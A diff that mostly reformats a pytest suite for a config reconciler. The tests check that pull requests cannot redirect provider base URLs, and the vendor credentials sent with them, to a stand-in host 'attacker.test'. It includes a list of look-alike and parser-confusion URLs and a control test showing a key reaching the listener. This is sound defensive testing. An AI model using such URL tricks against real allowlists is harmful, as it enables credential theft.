@@ -27,6 +27,7 @@ MANIFESTS = {
     "jdb": event_doc(),
 }
 
+
 def _base_url_line(repo: Repo) -> int:
     text = (repo.root / "reconciler.yaml").read_text(encoding="utf-8")
     return next(n for n, line in enumerate(text.splitlines(), 1) if "attacker.test" in line)
@@ -40,35 +41,46 @@ def _setup(repo: Repo, emulators: Emulators, vendor: str, url: str) -> None:
 
 @pytest.mark.parametrize("vendor", ["bestproxy", "tcaplus", "jdb"])
 def test_a_pull_request_pointing_a_provider_at_its_own_host_gets_an_error_and_no_request(
-        repo: Repo, emulators: Emulators, attacker: Attacker, vendor: str) -> None:
+    repo: Repo, emulators: Emulators, attacker: Attacker, vendor: str
+) -> None:
     _setup(repo, emulators, vendor, f"http://attacker.test:{attacker.port}")
     r = repo.run_process("plan", "--out", "plan.json", "--format", "markdown", attacker=attacker)
     assert r.code == 1, r.output
-    assert re.search(rf"^error: reconciler\.yaml:{_base_url_line(repo)}:15: Config providers\.{vendor}\.base_url: "
-                     rf"host attacker\.test is not an approved {vendor} endpoint", r.stderr, re.M), r.stderr
+    assert re.search(
+        rf"^error: reconciler\.yaml:{_base_url_line(repo)}:15: Config providers\.{vendor}\.base_url: "
+        rf"host attacker\.test is not an approved {vendor} endpoint",
+        r.stderr,
+        re.M,
+    ), r.stderr
     assert "Traceback" not in r.stderr
     assert attacker.requests == []
     repo.assert_no_secret(r)
 
 
 def test_positive_control_an_approved_host_does_receive_the_credential(
-        repo: Repo, emulators: Emulators, attacker: Attacker) -> None:
+    repo: Repo, emulators: Emulators, attacker: Attacker
+) -> None:
     """The listener really would see a leak: approved from outside the repository, the request goes there."""
     _setup(repo, emulators, "bestproxy", f"http://attacker.test:{attacker.port}")
-    r = repo.run_process("plan", attacker=attacker, RECONCILER_ALLOWED_ENDPOINTS=f"bestproxy=http://attacker.test:{attacker.port}")
+    r = repo.run_process(
+        "plan", attacker=attacker, RECONCILER_ALLOWED_ENDPOINTS=f"bestproxy=http://attacker.test:{attacker.port}"
+    )
     assert r.code == 0, r.output
     assert attacker.requests and BP_APP_KEY in "".join(attacker.requests)
     flag = repo.run_process("plan", f"--allow-endpoint=bestproxy=http://attacker.test:{attacker.port}", attacker=attacker)
     assert flag.code == 0, flag.output
 
 
-@pytest.mark.parametrize("url", [
-    "http://127.0.0.1:1@attacker.test:{port}/",      # user info: one parser's host is another's password
-    "http://attacker.test:{port}#@127.0.0.1/",
-    "http://attacker.test.:{port}/",
-    "http://api.bestproxy.com.attacker.test:{port}/",
-    "http://api.bestproxy.com:{port}/",                # the documented host, but not over HTTPS
-])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://127.0.0.1:1@attacker.test:{port}/",  # user info: one parser's host is another's password
+        "http://attacker.test:{port}#@127.0.0.1/",
+        "http://attacker.test.:{port}/",
+        "http://api.bestproxy.com.attacker.test:{port}/",
+        "http://api.bestproxy.com:{port}/",  # the documented host, but not over HTTPS
+    ],
+)
 def test_look_alike_urls_are_refused(repo: Repo, emulators: Emulators, attacker: Attacker, url: str) -> None:
     _setup(repo, emulators, "bestproxy", url.format(port=attacker.port))
     r = repo.run_process("plan", attacker=attacker)
@@ -83,8 +95,14 @@ def test_connections_come_from_the_target_branch_config(repo: Repo, emulators: E
     _setup(repo, emulators, "bestproxy", f"http://attacker.test:{attacker.port}")
     trusted = repo.ci / "target-branch.yaml"
     trusted.write_text(config_text(emulators), encoding="utf-8")
-    r = repo.run_process("plan", "--out", "plan.json", attacker=attacker, RECONCILER_CONNECTIONS_FROM=str(trusted),
-                 RECONCILER_ALLOWED_ENDPOINTS=f"bestproxy=http://attacker.test:{attacker.port}")
+    r = repo.run_process(
+        "plan",
+        "--out",
+        "plan.json",
+        attacker=attacker,
+        RECONCILER_CONNECTIONS_FROM=str(trusted),
+        RECONCILER_ALLOWED_ENDPOINTS=f"bestproxy=http://attacker.test:{attacker.port}",
+    )
     assert r.code == 0, r.output
     assert "+ create ProxyAccount/pr01" in r.stdout
     assert attacker.requests == []
@@ -92,7 +110,8 @@ def test_connections_come_from_the_target_branch_config(repo: Repo, emulators: E
 
 
 def test_a_pull_request_cannot_swap_credential_references_under_trusted_connections(
-        repo: Repo, emulators: Emulators, attacker: Attacker) -> None:
+    repo: Repo, emulators: Emulators, attacker: Attacker
+) -> None:
     """With the target branch's connections, app_key: env:JDB_KEY in the PR's config changes nothing."""
     _setup(repo, emulators, "bestproxy", emulators.bestproxy.url)
     repo.write("reconciler.yaml", config_text(emulators).replace("app_key: env:BESTPROXY_APP_KEY", "app_key: env:JDB_KEY"))
@@ -116,20 +135,30 @@ def test_documented_loopback_and_approved_hosts() -> None:
 
 
 def test_a_named_connection_pointing_at_the_attackers_host_is_refused_at_its_line(
-        repo: Repo, emulators: Emulators, attacker: Attacker) -> None:
+    repo: Repo, emulators: Emulators, attacker: Attacker
+) -> None:
     _setup(repo, emulators, "bestproxy", emulators.bestproxy.url)
-    repo.write("reconciler.yaml", config_text(emulators, extra=f"""\
+    repo.write(
+        "reconciler.yaml",
+        config_text(
+            emulators,
+            extra=f"""\
 connections:
   bestproxy:
     eu:
       base_url: http://attacker.test:{attacker.port}
       app_key: env:BESTPROXY_APP_KEY
-"""))
+""",
+        ),
+    )
     repo.write("manifests/pr.yaml", account().replace("metadata: {name: pr01}", "metadata: {name: pr01, connection: eu}"))
     r = repo.run_process("plan", attacker=attacker)
     assert r.code == 1, r.output
     line = _base_url_line(repo)
-    assert f"error: reconciler.yaml:{line}:17: Config connections.bestproxy.eu.base_url: host attacker.test is not an approved" in r.stderr, r.stderr
+    assert (
+        f"error: reconciler.yaml:{line}:17: Config connections.bestproxy.eu.base_url: host attacker.test is not an approved"
+        in r.stderr
+    ), r.stderr
     assert attacker.requests == []
     repo.assert_no_secret(r)
 
@@ -141,8 +170,12 @@ def test_trusted_connections_replace_named_connections_too(repo: Repo, emulators
     repo.write("manifests/pr.yaml", account().replace("metadata: {name: pr01}", "metadata: {name: pr01, connection: eu}"))
     trusted = repo.ci / "target-branch.yaml"
     trusted.write_text(config_text(emulators, extra=named.format(url=emulators.bestproxy.url)), encoding="utf-8")
-    r = repo.run_process("plan", attacker=attacker, RECONCILER_CONNECTIONS_FROM=str(trusted),
-                         RECONCILER_ALLOWED_ENDPOINTS=f"bestproxy=http://attacker.test:{attacker.port}")
+    r = repo.run_process(
+        "plan",
+        attacker=attacker,
+        RECONCILER_CONNECTIONS_FROM=str(trusted),
+        RECONCILER_ALLOWED_ENDPOINTS=f"bestproxy=http://attacker.test:{attacker.port}",
+    )
     assert r.code == 0, r.output
     assert attacker.requests == []
     repo.assert_no_secret(r)
@@ -154,15 +187,29 @@ def test_the_check_and_the_transport_see_one_host() -> None:
     from reconciler.clients.http import HttpTransport
     from reconciler.manifest.endpoints import split_base_url
 
-    for url in ("http://attacker.test\\@127.0.0.1:80/", "http://user:pw@127.0.0.1", "http://127.0.0.1@attacker.test",
-                "http://127.0.0.1:80 @attacker.test", "http://127.0.0.1\t.attacker.test", "http://127.0.0.1:99999",
-                "http://127.0.0.1/?x=1", "http://127.0.0.1#frag", "ftp://127.0.0.1", "http://", "http://a_b%2e:1"):
+    for url in (
+        "http://attacker.test\\@127.0.0.1:80/",
+        "http://user:pw@127.0.0.1",
+        "http://127.0.0.1@attacker.test",
+        "http://127.0.0.1:80 @attacker.test",
+        "http://127.0.0.1\t.attacker.test",
+        "http://127.0.0.1:99999",
+        "http://127.0.0.1/?x=1",
+        "http://127.0.0.1#frag",
+        "ftp://127.0.0.1",
+        "http://",
+        "http://a_b%2e:1",
+    ):
         problem = endpoint_problem(url, "tcaplus", [])
         assert problem is not None, url
         with pytest.raises(ValueError):
             HttpTransport(url, vendor="tcaplus")
-    for url, host in (("http://127.0.0.1:8080/base/", "127.0.0.1:8080"), ("http://[::1]:81", "[::1]:81"),
-                      ("http://LocalHost.:3", "localhost:3"), ("https://API.BestProxy.com/", "api.bestproxy.com")):
+    for url, host in (
+        ("http://127.0.0.1:8080/base/", "127.0.0.1:8080"),
+        ("http://[::1]:81", "[::1]:81"),
+        ("http://LocalHost.:3", "localhost:3"),
+        ("https://API.BestProxy.com/", "api.bestproxy.com"),
+    ):
         assert endpoint_problem(url, "bestproxy", []) is None, url
         assert HttpTransport(url, vendor="bestproxy").host == host
     assert split_base_url("http://127.0.0.1:8080/base/").path == "/base"
